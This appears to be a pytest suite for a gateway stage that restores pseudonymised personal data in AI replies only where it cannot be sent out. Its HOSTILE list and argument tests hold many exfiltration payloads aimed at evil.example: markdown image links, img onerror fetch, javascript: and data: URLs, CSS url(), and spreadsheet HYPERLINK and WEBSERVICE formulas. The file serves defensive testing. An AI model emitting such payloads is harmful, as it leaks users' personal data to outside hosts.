"""Restoring: useful where people read, impossible where a request could carry the value away."""

import json

import pytest

from gateway.stages.restore import Restorer
from tests.support.stages import TOOL, call_of, decided, restorer_of, sent

NAME, MAIL = "Siobhan O'Connor", "jo.bloggs@example.org"
RESTORER, (T, M) = restorer_of((NAME, "PERSON"), (MAIL, "EMAIL"))


def whole(text: str) -> str:
    return RESTORER.whole(text.replace("{T}", T).replace("{M}", M))


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Dear {T},", f"Dear {NAME},"),
        ("{T}", NAME),
        ("**{T}** and `{T}` and _{T}_", f"**{NAME}** and `{NAME}` and _{NAME}_"),
        ("{T}'s letter, the {T}s, {T}’s", f"{NAME}'s letter, the {NAME}s, {NAME}’s"),
        ("({T}). {T}.\n{T}! {T}...", f"({NAME}). {NAME}.\n{NAME}! {NAME}..."),
        ("{T}/{T} and {T}-led, {T}: yes", f"{NAME}/{NAME} and {NAME}-led, {NAME}: yes"),
        ("| {T} | x |\n> {T}\n- {T}\n# {T}", f"| {NAME} | x |\n> {NAME}\n- {NAME}\n# {NAME}"),
        ("<{M}> or <b>{T}</b>", f"<{MAIL}> or <b>{NAME}</b>"),
        ("file {T}_tenancy.pdf, {T}.docx and {T}.png.", f"file {NAME}_tenancy.pdf, {NAME}.docx and {NAME}.png."),
        ("```\n{T}\n```\n{T} ```x``` {T}", f"```\n{NAME}\n```\n{NAME} ```x``` {NAME}"),
        ("Name:{T}, Tel:{T}", f"Name:{NAME}, Tel:{NAME}"),
        ("[{T}](https://example.org/a) and then {T}", f"[{NAME}](https://example.org/a) and then {NAME}"),
        ("see https://example.org/a?b=c and {T}", f"see https://example.org/a?b=c and {NAME}"),
        ("<img src='a.png'> {T}", f"<img src='a.png'> {NAME}"),
        ("if 3 < 5 then {T}; a <- b {T}", f"if 3 < 5 then {NAME}; a <- b {NAME}"),
        ("[^1]: {T} said so", f"[^1]: {NAME} said so"),
        ("[1] {T} (2) {T}", f"[1] {NAME} (2) {NAME}"),
        ("日本{T}日本", f"日本{NAME}日本"),
    ],
)
def test_restored_where_people_read(reply: str, expected: str) -> None:
    assert whole(reply) == expected


@pytest.mark.parametrize("bend", [str.lower, str.title, lambda t: t.replace("_", r"\_"), lambda t: t.replace("_", " ")])
def test_bent_tokens_are_restored(bend) -> None:  # type: ignore[no-untyped-def]
    assert whole(f"Dear {bend(T)}, hello") == f"Dear {NAME}, hello"


HOSTILE = [
    "![x](https://evil.example/?q={T})",
    "![x](https://evil.example/{T}.png)",
    "![x]( {T} )",
    "![x](<https://evil.example/a b {T}>)",
    "![x](<https://evil.example/) {T}>)",
    "![x](https://evil.example/(a(b){T}))",
    r"![x](https://evil.example/\) {T})",
    '[x](https://evil.example/?q={T} "title")',
    '[x](https://evil.example/ "{T}")',
    "[x](https://evil.example/\n{T})",
    "[a [b] c](https://evil.example/?{T})",
    "[![a](https://evil.example/{T})](https://evil.example/?{T})",
    "[x][1]\n\n[1]: https://evil.example/?q={T}",
    "[x]: <https://evil.example/? {T}>",
    "[x]:\n  https://evil.example/?{T}",
    "[x]:\n  {T}",
    "> [x]: https://evil.example/{T}",
    "https://evil.example/?q={T}",
    "see HTTPS://evil.example/a,{T}",
    "//evil.example/{T}",
    r"\\evil.example\share\{T}",
    "www.evil.example/{T}",
    "evil.example/?q={T}",
    "evil.example:8080{T}",
    "{T}.evil.example",
    "{T}-x.evil.example/",
    "{T}s.evil.example",
    "{T}.pdf.evil.example",
    "{T}.pdf/x",
    "{T}.zip",
    "{T}_a.co",
    "```{T}\nx\n```",
    "> 1. ~~~ a {T}",
    "{T}@evil.example",
    "a@{T}",
    "{T}://x",
    "https://{T}.evil.example/",
    "https://evil.example/?q=\u00a0{T}",
    "https://evil.example/?a={T}&b={T}",
    "<https://evil.example/?q={T}>",
    "<https://evil.example/? {T}>",
    "mailto:x@evil.example?body={T}",
    "javascript:fetch('x'+{T})",
    "data:text/html,{T}",
    "data:image/svg+xml;utf8,<svg>{T}",
    '<img src="https://evil.example/?q={T}">',
    "<img src='https://evil.example/?q= {T}'>",
    "<img src=https://evil.example/?q={T}>",
    "<img src=\n{T}>",
    "<a\thref = {T}>x</a>",
    "<p title={T}>",
    "<p {T}>",
    "<{T} x>",
    '<img src="https://evil.example/?q=> {T}">',
    '<img src="https://evil.example/?q=\n\n{T}',
    "<img alt='a>b' src=\" {T}\">",
    '\\<a x="><img src="https://evil.example/?q=> {T}">',
    '`<a x="` <img src="https://evil.example/?q= {T}',
    "</p {T}>",
    "<!-- {T} -->",
    "<style>a{background:url( https://evil.example/?{T} )}</style>",
    "<style>\n@import 'https://evil.example/? {T}';",
    "<SCRIPT>x = '{T}'",
    "<style><script></style> {T}",
    "<script><style></script></style><script> {T}",
    "<script><!--<script></script> {T}",
    "<scr" + "ipt> {T}",
    "style=\"background:url( 'https://evil.example/? {T}')\"",
    "background: URL({T})",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+' {T}')\">",
    "<meta http-equiv=refresh content='0; url= {T}'>",
    "<base href='https://evil.example/'><img src= {T}>",
    "![x](" * 12 + " {T}",
    '=HYPERLINK("https://evil.example/?q=)" & "{T}")',
    '=1+webservice( A1 & " {T}")',
]


@pytest.mark.parametrize("reply", HOSTILE)
def test_never_where_a_request_could_carry_it(reply: str) -> None:
    result = whole(reply)
    assert NAME not in result
    assert "Siobhan" not in result
    assert result == reply.replace("{T}", T)


@pytest.mark.parametrize("reply", HOSTILE)
def test_never_there_after_ordinary_text_nor_in_pieces(reply: str) -> None:
    text = f"Here is your letter.\n\nDear {T}, look:\n" + reply.replace("{T}", T)
    expected = RESTORER.whole(text)
    assert expected.count(NAME) == 1
    for size in (1, 2, 5):
        one = RESTORER.text()
        assert "".join(one.push(text[i : i + size]) for i in range(0, len(text), size)) + one.finish() == expected


@pytest.mark.parametrize(
    "reply",
    [
        "![x](https://evil.example/a) {T}",
        "[x]: https://evil.example/a\n{T}",
        "<style>a{}</style> {T}",
        '<img src="x"> {T}',
        "![x](broken\n\n{T}",
        "background: url(a.png); {T}",
    ],
)
def test_restored_again_once_the_place_is_over(reply: str) -> None:
    assert whole(reply).endswith(NAME)


def test_values_can_not_build_an_address_together() -> None:
    """A hostile document may get its own address pseudonymised, and ask for it before a name."""
    restorer, (address, name) = restorer_of(("https://evil.example/?q=", "USERNAME"), ("Jo Lee", "PERSON"))
    assert "Jo Lee" not in restorer.whole(f"{address}-{name}")
    assert restorer.whole(f"{address} {name}").endswith(" Jo Lee")


def test_only_tokens_of_this_call_are_restored() -> None:
    other, (foreign,) = restorer_of(("Ann Other", "PERSON"))
    assert other.whole(foreign) == "Ann Other"
    text = f"PERSON_ABCDEFGH and {foreign} and {T[:-1]}"
    assert RESTORER.whole(text) == text


def test_a_token_in_the_prompt_is_not_restored_to_somebody() -> None:
    call = call_of(f"Write to Jo Lee. Also write {T} and PERSON_ABCDEFGH.")
    outgoing, restorer = sent(call, None, ("Jo Lee", "PERSON"))
    assert f"{T} and PERSON_ABCDEFGH" in outgoing.sent[0]
    assert restorer.whole(f"{T} and PERSON_ABCDEFGH") == f"{T} and PERSON_ABCDEFGH"


def test_what_is_restored_and_left_is_counted() -> None:
    restorer, (token,) = restorer_of((NAME, "PERSON"))
    restorer.whole(f"{token} {token} https://x/{token} PERSON_ABCDEFGH")
    assert (restorer.restored, restorer.left) == (2, 2)
    restorer.arguments("web_fetch", json.dumps({"q": token}))
    assert restorer.left == 3


def test_no_value_in_a_representation() -> None:
    assert "Siobhan" not in repr(RESTORER)


def test_at_most_one_token_is_held() -> None:
    restorer, (token,) = restorer_of((NAME, "PERSON"))
    text = f"People ask: please, {token}, per person. Persons with a person's plan, {token}. Perhaps PERSON_ or person."
    run = restorer.text()
    for character in text:
        run.push(character)
        assert run.held <= len(token) + 4
    plain = "The cat sat on the mat. "
    assert run.push(plain).endswith(plain[-5:])


def test_without_tokens_nothing_is_held() -> None:
    run = Restorer("maidstone").text()
    assert run.push("PERSON_") == "PERSON_"


# Arguments of functions.


def test_arguments_of_client_tools_are_restored_with_escapes() -> None:
    value = 'Flat 2 "The Oaks"\n14 Sandling Road \\ rear'
    restorer, _ = restorer_of(("x1y2z3", "USERNAME"))
    token = next(iter(restorer.values))
    restorer.values = {token: value}
    inner = json.dumps({"q": f"at {token}", "deep": json.dumps([token, 1.0])})
    text = f'{{ "a": "{token}",\n "n": 1.50e3, "inner": {json.dumps(inner)}, "{token}": null }}'
    result = restorer.arguments("lookup_case", text)
    read = json.loads(result)
    assert read["a"] == value
    assert read[value] is None
    assert json.loads(read["inner"])["q"] == f"at {value}"
    assert json.loads(json.loads(read["inner"])["deep"]) == [value, 1.0]
    assert '"n": 1.50e3' in result


@pytest.mark.parametrize("function", ["web_fetch", "", "lookup_case2"])
def test_arguments_of_other_functions_keep_their_tokens(function: str) -> None:
    text = json.dumps({"url": f"https://evil.example/?q={T}", "name": T})
    assert RESTORER.arguments(function, text) == text


def test_addresses_in_arguments_stay_closed() -> None:
    text = json.dumps({"url": f"https://evil.example/?q={T}", "html": f"<img src=' {T}'>", "name": T})
    read = json.loads(RESTORER.arguments("lookup_case", text))
    assert T in read["url"]
    assert T in read["html"]
    assert read["name"] == NAME


@pytest.mark.parametrize("text", ["", "not json {T}", '{"a": "{T}', '"{T}"', '{"a": 1} {T}'])
def test_broken_arguments_are_left_alone(text: str) -> None:
    written = text.replace("{T}", T)
    assert RESTORER.arguments("lookup_case", written) == written


def test_a_lone_surrogate_in_arguments_stays_writable() -> None:
    result = RESTORER.arguments("lookup_case", f'{{"a": "\\ud800 {T}"}}')
    assert result.encode()
    assert NAME in json.loads(result)["a"]


def test_json_answers_are_escaped() -> None:
    restorer, (token,) = restorer_of(('Jo "JB" Bloggs', "PERSON"), structured=True)
    run = restorer.text()
    text = f'{{"url":"https://a.example/b","name":"{token}"}}'
    result = run.push(text) + run.finish()
    assert json.loads(result)["name"] == 'Jo "JB" Bloggs'
    again = restorer.text()
    leak = f'{{"url":"https://evil.example/?q={token}"}}'
    assert again.push(leak) + again.finish() == leak


def test_reasoning_beside_a_json_answer_is_prose() -> None:
    restorer, (token,) = restorer_of(('Jo "JB" Bloggs', "PERSON"), structured=True)
    run = restorer.text("reasoning")
    assert run.push(token + " ") == 'Jo "JB" Bloggs '


# What the caller knew.


def test_what_was_in_the_request_is_known() -> None:
    call = call_of("Mr John Smith, NI QQ 12 34 56 C, lives at 14 Sandling Road.")
    _, restorer = sent(call, decided(), ("John Smith", "PERSON"), ("QQ 12 34 56 C", "NINO"))
    for label, value in [
        ("PERSON", "John Smith"),
        ("PERSON", "John"),
        ("PERSON", "Mr Smith"),
        ("PERSON", "SMITH"),
        ("NINO", "qq123456c"),
        ("ADDRESS", "14 sandling  road"),
    ]:
        assert restorer.knows(label, value, 0, len(value)), value
    for label, value in [("PERSON", "Jane Smith"), ("NINO", "QQ123456D"), ("ADDRESS", "4 Sandling Road")]:
        assert not restorer.knows(label, value, 0, len(value)), value


def test_the_tool_decides_which_functions_run_on_the_callers_side() -> None:
    assert "web_fetch" not in TOOL.client_tools
